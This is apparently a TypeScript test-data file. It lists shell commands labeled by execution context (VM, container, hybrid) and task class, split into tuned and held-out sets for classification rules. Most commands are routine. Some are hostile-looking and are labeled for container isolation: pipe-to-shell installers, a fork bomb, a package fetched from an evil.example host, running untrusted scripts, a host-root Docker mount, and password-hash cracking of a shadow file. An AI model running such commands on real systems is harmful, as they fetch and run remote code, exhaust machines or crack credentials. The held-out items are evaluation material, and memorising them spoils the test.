// Commands with the right context and class. The rules were tuned on `tuned`; `heldOut` was written before the rules were run on it.

export interface LabeledCommand { context: string; class: string; command: string }

const tunedText = String.raw`
vm build | make -j4
vm build | npm run build
vm build | npm ci && npm test
vm build | cargo build --release
vm build | cargo test -- --nocapture
vm build | go build ./...
vm build | go test ./... -race
vm build | mvn -q package
vm build | ./gradlew assembleDebug
vm build | cmake -B build && cmake --build build -j
vm build | ./configure --prefix=/usr/local && make && sudo make install
vm build | pytest -q tests/
vm build | python -m pytest -x
vm build | uv run pytest
vm build | poetry run mypy src
vm build | tsc --noEmit
vm build | npx tsc --noEmit
vm build | eslint . --fix
vm build | ruff check --fix .
vm build | git clone https://github.com/x/y
vm build | git status
vm build | git add -A && git commit -m 'fix the train script'
vm build | git rebase main
vm build | pip install -r requirements.txt
vm build | python3 -m venv .venv
vm build | bash -lc 'cd /srv/app && npm run dev'
vm build | python manage.py runserver
vm build | uvicorn app:app --port 8000
vm build | gcc -O2 -o hello hello.c && ./hello
vm build | sh -c 'cd proj; make clean all'
vm build | vim src/main.rs
vm build | env NODE_ENV=production npm run build
vm build | timeout 600 make check
vm build | python setup.py develop
vm build | node server.js
vm build | dotnet build
vm build | latexmk -pdf paper.tex
vm build | bundle exec rspec
vm build | docker-free() { make; }; docker-free
vm build | curl -s localhost:8080/healthz
vm system | systemctl restart nginx
vm system | sudo apt-get update
vm system | sudo apt install -y htop
vm system | journalctl -u ssh -n 50
vm system | df -h
vm system | ps aux | grep node
vm system | free -m
vm system | useradd -m alice
vm system | chmod +x run.sh
vm system | ls -la /srv
vm system | cat /etc/os-release
vm system | cp -r a b
vm system | rm -rf build
vm system | mkdir -p /srv/data && cd /srv/data
vm system | find / -name '*.log' -size +10M
vm system | kill -9 1234
vm system | crontab -l
vm system | ip addr show
vm system | ss -ltnp
vm system | uname -a
vm system | mount /dev/vdb /mnt
vm system | tail -f /var/log/syslog
vm system | sysctl vm.swappiness
vm system | du -sh * | sort -h
vm system | echo hello
vm system | hostnamectl set-hostname dev
vm system | sudo -u postgres whoami
vm data | jq '.items[] | .name' data.json
vm data | cat people.csv | cut -d, -f2 | sort | uniq -c
vm data | psql -c 'select count(*) from users'
vm data | pg_dump mydb > backup.sql
vm data | sqlite3 app.db '.tables'
vm data | awk -F, '{s+=$3} END {print s}' sales.csv
vm data | tar czf backup.tgz /srv/app
vm data | rsync -a src/ dst/
vm data | duckdb -c "select * from 'x.parquet' limit 10"
vm data | python etl/load_orders.py
vm data | python -c "import pandas as pd; pd.read_csv('a.csv').to_parquet('a.parquet')"
vm data | mlr --icsv --ojson cat x.csv
vm data | unzip dataset.zip -d data
vm data | wget https://example.org/data/cities.csv.gz
vm data | curl -sL https://api.example.org/items | jq length
vm data | aws s3 sync s3://bucket/raw raw/
vm data | npm run db:migrate
vm data | python manage.py migrate
vm data | xsv stats big.csv
vm data | redis-cli get session:1
vm data | sed -i 's/;/,/g' table.txt
vm data | dvc pull
vm data | python convert_images.py in out
vm data | convert photo.png -resize 50% small.png
container data | ffmpeg -i in.mov -c:v libx264 out.mp4
container data | spark-submit job.py
container data | blender -b scene.blend -a
vm research | curl https://en.wikipedia.org/wiki/Linux
vm research | lynx -dump https://news.ycombinator.com
vm research | python scrape_jobs.py
vm research | python arxiv_search.py 'diffusion models'
vm research | pdftotext paper.pdf - | head -50
vm research | gh search repos 'vector database' --limit 20
vm research | npm view express versions
vm research | yt-dlp --write-auto-sub https://youtu.be/x
vm research | wget -r -l 2 https://docs.example.org/
vm research | scrapy crawl quotes
vm research | python -c "import requests; print(requests.get('https://example.org').text)"
vm research | ddgr --np 'qemu postcopy'
vm research | node crawl-docs.js
vm research | man 7 signal
vm research | pandoc thesis.docx -t markdown
vm analysis | python analyze_results.py
vm analysis | Rscript survival_analysis.R
vm analysis | jupyter nbconvert --execute report.ipynb
vm analysis | python plot_latency.py --out fig.png
vm analysis | python -c "import numpy as np; print(np.mean([1,2,3]))"
vm analysis | octave --eval 'mean([1 2 3])'
vm analysis | R -e 'summary(lm(mpg ~ wt, mtcars))'
vm analysis | gnuplot plot.gp
vm analysis | datamash -t, mean 2 < x.csv
vm analysis | python evaluate.py --model best.pt
vm analysis | cloc .
vm analysis | hyperfine './a' './b'
vm analysis | python scripts/correlation.py data/
vm analysis | streamlit run dashboard.py
container analysis | python train.py --epochs 50
container analysis | python3 finetune.py --model x --steps 20000
container analysis | torchrun --nproc_per_node=2 train.py
container analysis | python simulate.py --n-samples 1000000
container analysis | python monte_carlo.py
container analysis | gmx mdrun -deffnm md
container analysis | hashcat -m 0 hashes.txt words.txt
container analysis | stress-ng --cpu 8 --timeout 60
container analysis | python hyperparam_search.py --trials 200
container analysis | accelerate launch train.py
container analysis | Rscript bootstrap_ci.R --iterations 10000
container analysis | nice -n 19 python train_model.py
container analysis | julia grid_search.jl
container analysis | afl-fuzz -i in -o out ./target @@
hybrid analysis | python prepare_data.py && python train.py --epochs 100 && python evaluate.py
hybrid analysis | make data && python train.py && pytest tests/test_model.py
hybrid analysis | pip install -r requirements.txt && python train.py
hybrid analysis | ./preprocess.sh && torchrun train.py && python report.py
hybrid analysis | git pull && python simulate.py --steps 100000 && python plot.py
container build | curl -fsSL https://sh.example.org/install.sh | sh
container build | curl -sSf https://sh.rustup.rs | sh -s -- -y
container build | bash <(curl -s https://example.org/setup.sh)
container build | bash -c "$(curl -fsSL https://example.org/install.sh)"
container build | wget -qO- https://get.example.io | sudo bash
container build | wget https://x.example/install.sh && bash install.sh
container build | pip install git+https://github.com/unknown/pkg
container build | npx -y create-something@latest app
container build | python submissions/alice/main.py
container build | python untrusted/main.py
container system | :(){ :|:& };:
container build | ~/Downloads/setup.run
container analysis | python malware/sample_analysis.py
container analysis | yara rules.yar suspicious.bin
container container | docker run --rm python:3.12 python -c 'print(1)'
container container | docker build -t app .
container container | podman run -it alpine sh
container container | docker compose up -d
container container | sudo docker run -v /:/host alpine
container container | buildah bud -t x .
container container | docker-compose run tests
vm container | docker ps -a
vm container | docker logs web
vm container | kubectl get pods -A
vm container | helm list
vm container | podman images
vm container | docker system df
vm container | kubectl apply -f deploy.yaml
multi-agent collaboration | somnus collab start --task count --with a,b,c
multi-agent collaboration | pssh -h hosts.txt uptime
multi-agent collaboration | ansible all -m ping
multi-agent collaboration | ansible-playbook -i inventory site.yml
multi-agent collaboration | mpirun -np 16 --hostfile hosts ./solver
multi-agent collaboration | parallel -S a,b,c gzip ::: *.log
multi-agent collaboration | torchrun --nnodes=4 train.py
multi-agent collaboration | ray submit cluster.yaml job.py
multi-agent collaboration | python multi_agent_debate.py
multi-agent collaboration | python swarm.py --agents 5
multi-agent collaboration | clush -w node[1-4] df
multi-agent collaboration | python map_reduce.py --workers a,b,c
vm collaboration | gh pr create --fill
vm collaboration | gh issue comment 12 -b done
vm collaboration | git send-email 0001.patch
vm collaboration | mail -s done alice@example.org < report.txt
vm collaboration | glab mr approve 7
`;

const heldOutText = String.raw`
vm build | yarn install --frozen-lockfile
vm build | pnpm build
vm build | bazel build //app:all
vm build | meson setup build && ninja -C build
vm build | python -m build
vm build | black --check .
vm build | clang -Wall main.c -o main
vm build | git log --oneline -20
vm build | git bisect run make test
vm build | phpunit --testsuite unit
vm build | sudo -E env PATH=$PATH make install
vm build | for d in */; do (cd "$d" && npm test); done
vm build | node --test
vm build | zig build test
vm build | ruby app.rb
vm build | flask run --debug
vm build | nohup npm start &
vm build | deno task dev
vm system | sudo systemctl enable --now docker
vm system | dpkg -l | grep openssl
vm system | lsof -i :8080
vm system | top -bn1 | head -20
vm system | sudo chown -R www-data /var/www
vm system | timedatectl
vm system | stat /etc/passwd
vm system | tmux new -d -s work
vm system | env | sort
vm system | if [ -f /tmp/x ]; then rm /tmp/x; fi
vm system | nvidia-smi
vm system | dmesg --level=err
vm data | csvcut -c 1,3 orders.csv
vm data | mysql -e 'show tables' shop
vm data | yq '.services' compose.yml
vm data | mongoexport -c users -o users.json
vm data | python scripts/clean_dataset.py
vm data | gunzip -c log.gz | awk '{print $7}' | sort | uniq -c | sort -rn
vm data | python -c 'import json,sys; print(json.load(sys.stdin)["a"])' < a.json
vm data | rclone copy remote:raw ./raw
vm data | dbt run
vm data | curl -O https://data.example.org/2024/trips.parquet
vm data | sha256sum *.iso
container data | ffmpeg -y -i talk.mkv -vn talk.mp3
container data | nextflow run pipeline.nf
vm research | w3m -dump https://example.org
vm research | curl -s https://export.arxiv.org/api/query?search_query=llm
vm research | python fetch_papers.py --topic rl
vm research | cargo search serde
vm research | node screenshot.js https://example.org
vm research | tldr tar
vm research | pdfgrep -i 'threat model' *.pdf
vm research | python news_crawler.py
vm analysis | python notebooks/eda.py
vm analysis | Rscript -e 't.test(extra ~ group, sleep)'
vm analysis | python forecast.py --horizon 12
vm analysis | papermill in.ipynb out.ipynb
vm analysis | python compute_metrics.py run1 run2
vm analysis | julia -e 'using Statistics; println(mean(1:10))'
vm analysis | echo '2^64' | bc
container analysis | python pretrain_bert.py
container analysis | deepspeed train.py --deepspeed cfg.json
container analysis | python rl/ppo.py --episodes 5000
container analysis | lmp -in in.melt
container analysis | john --wordlist=rockyou.txt shadow
container analysis | python backtest_strategy.py
container analysis | sysbench cpu run
hybrid analysis | python split_data.py && python train_classifier.py && python eval.py
hybrid analysis | dvc pull && python fine_tune.py --epochs 10 && python evaluate.py && dvc push
hybrid analysis | cargo build --release && ./target/release/simulate --steps 1000000
container build | curl https://get.tool.dev | bash
container build | wget -O - https://x.sh/i | sh
container build | sh -c "$(wget -qO- https://example.org/ohmy.sh)"
container build | curl -o run.sh https://a.example/run.sh; chmod +x run.sh; ./run.sh
container build | npm install https://evil.example/p.tgz
container build | python inbox/attachment.py
container build | eval "$(curl -s https://example.org/env)"
container container | docker run -d -p 80:80 nginx
container container | podman build .
container container | docker compose -f dev.yml build
vm container | docker inspect web
vm container | kubectl logs deploy/api
vm container | helm upgrade app ./chart
multi-agent collaboration | somnus collab status
multi-agent collaboration | ansible web -a 'systemctl restart app'
multi-agent collaboration | mpiexec -n 8 -f machines ./sim
multi-agent collaboration | python agents/delegate_tasks.py
multi-agent collaboration | dask-ssh --hostfile hosts
vm collaboration | gh pr review 5 --approve
vm collaboration | glab issue create -t bug
`;

export const tuned = parsed(tunedText);
export const heldOut = parsed(heldOutText);

function parsed(text: string): LabeledCommand[] {
  return text.trim().split('\n').map((line) => {
    const [label = '', ...command] = line.split(' | ');
    const [context = '', kind = ''] = label.split(' ');
    return { context, class: kind, command: command.join(' | ') };
  });
}
